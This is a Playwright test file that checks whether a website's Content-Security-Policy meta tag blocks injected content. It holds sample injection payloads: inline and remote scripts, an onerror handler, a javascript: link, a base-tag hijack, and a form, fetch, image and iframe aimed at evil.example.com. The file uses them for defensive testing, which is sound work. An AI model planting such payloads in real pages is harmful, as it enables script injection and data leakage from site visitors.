import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Page } from 'playwright';
import sirv from 'sirv';
import { describe, expect, onTestFinished, test } from 'vitest';
import { close, listen } from '../../cli/serve/listen.ts';
import { openSite } from '../support/open-site.ts';
import { sites } from '../support/sites.ts';

const { dist } = sites.real;
const site = openSite(dist);

const evil = 'https://evil.example.com';

interface Attack {
  name: string;
  /** What gets into the page, in front of its main part. */
  html: string;
  /** What a visitor, or a script that got in, does then. */
  act?: (page: Page) => Promise<unknown>;
  /** Whether it has done what it is for; `asked` are the addresses of the other host that the page has asked for. */
  hasActed: (page: Page, asked: readonly string[]) => Promise<boolean> | boolean;
}

const hasRun = (page: Page) => page.evaluate(() => 'hacked' in window);
const hasAsked = (_page: Page, asked: readonly string[]) => asked.length > 0;

const attacks: Attack[] = [
  { name: 'an inline script', html: '<script>window.hacked = true</script>', hasActed: hasRun },
  { name: 'a script of another host', html: `<script src="${evil}/x.js"></script>`, hasActed: hasRun },
  { name: 'an inline handler', html: '<img src="/no-such-picture" onerror="window.hacked = true">', hasActed: hasRun },
  {
    name: 'a javascript: link',
    html: '<a id="attack" href="javascript:void (window.hacked = true)">x</a>',
    act: press,
    hasActed: hasRun,
  },
  {
    name: 'a form to another host',
    html: `<form method="post" action="${evil}/form"><button id="attack"></button></form>`,
    act: press,
    hasActed: hasAsked,
  },
  {
    name: 'a base for all addresses',
    html: `<base href="${evil}/">`,
    hasActed: (page) => page.evaluate((evil) => document.baseURI.startsWith(evil), evil),
  },
  { name: 'a picture of another host', html: `<img src="${evil}/pixel.png" alt="">`, hasActed: hasAsked },
  {
    name: 'a stylesheet of another host',
    html: `<link rel="stylesheet" href="${evil}/x.css">`,
    hasActed: (page) => page.evaluate(() => getComputedStyle(document.body).opacity === '0.5'),
  },
  { name: 'a frame of another host', html: `<iframe src="${evil}/frame"></iframe>`, hasActed: hasAsked },
  {
    name: 'a fetch from another host',
    html: '',
    act: (page) => page.evaluate((evil) => fetch(`${evil}/data`, { mode: 'no-cors' }).catch(() => {}), evil),
    hasActed: hasAsked,
  },
];

/** Clicks on the attack, and waits until it has run, led to another page, or was stopped. */
async function press(page: Page): Promise<void> {
  const pressing = page.evaluate(() => {
    const ended = new Promise<void>((resolve) => {
      for (const type of ['securitypolicyviolation', 'pagehide']) addEventListener(type, () => resolve());
      const look = setInterval(() => {
        if (!('hacked' in window)) return;
        clearInterval(look);
        resolve();
      }, 10);
    });
    document.querySelector<HTMLElement>('#attack')?.click();
    return ended;
  });
  // It ends without an answer when it has led to another page.
  await Promise.race([pressing.catch(() => {}), page.waitForURL(`${evil}/**`)]);
}

/** What the other host answers: everything that would work. */
const answers: Record<string, { contentType: string; body: string }> = {
  '/x.js': { contentType: 'text/javascript', body: 'window.hacked = true' },
  '/x.css': { contentType: 'text/css', body: 'body { opacity: 0.5 }' },
};

/** Serves the files of the built site as they are, without a header of ours, and one page with changes. */
async function serveBare(html: string): Promise<string> {
  const serve = sirv(dist, { dev: true });
  const server = createServer((request, response) => {
    if (request.url === '/') response.setHeader('Content-Type', 'text/html; charset=utf-8').end(html);
    else serve(request, response, () => void response.writeHead(404).end());
  });
  onTestFinished(() => close(server));
  return listen(server, 0);
}

/** Opens the front page with the attack in it, and carries it out. @returns whether it has acted */
async function attack(html: string, { act, hasActed }: Attack): Promise<boolean> {
  const { page, violations } = await site.newPage();
  const asked: string[] = [];
  await page.route(`${evil}/**`, (route) => {
    const url = new URL(route.request().url());
    asked.push(url.href);
    return route.fulfill(
      answers[url.pathname] ?? { contentType: 'text/html', body: '<!doctype html><title>x</title>' },
    );
  });
  await page.goto(await serveBare(html), { waitUntil: 'networkidle' });
  await act?.(page);
  await page.waitForLoadState('networkidle');
  const acted = await hasActed(page, asked);
  violations.length = 0;
  return acted;
}

function frontPage(injected: string): string {
  return readFileSync(join(dist, 'index.html'), 'utf8').replace('<main', () => `${injected}<main`);
}

describe('on a host that ignores `_headers`, the policy in the page stops', () => {
  test.each(attacks)('$name', async (each) => {
    const html = frontPage(each.html);
    const unprotected = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    expect(unprotected, 'The policy must have been there.').not.toBe(html);
    expect(await attack(unprotected, each), 'Without the policy it acts; otherwise this proves nothing.').toBe(true);
    expect(await attack(html, each), 'With the policy it does nothing.').toBe(false);
  });
});

test('on such a host, every form and frame of the site still works', async () => {
  const { page, thirdParties, errors, violations } = await site.newPage();
  const address = await serveBare(readFileSync(join(dist, 'index.html'), 'utf8'));
  await page.goto(address, { waitUntil: 'networkidle' });
  await page.locator('main').getByRole('textbox').fill('visitor@example');
  await page.keyboard.press('Enter');
  await page.locator('#notices').getByText('Please enter a valid email address').waitFor();
  await page.goto(`${address}/book-call/`, { waitUntil: 'networkidle' });
  await page.getByTitle(/time/i).scrollIntoViewIfNeeded();
  await expect.poll(() => thirdParties.length).toBe(1);
  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
});
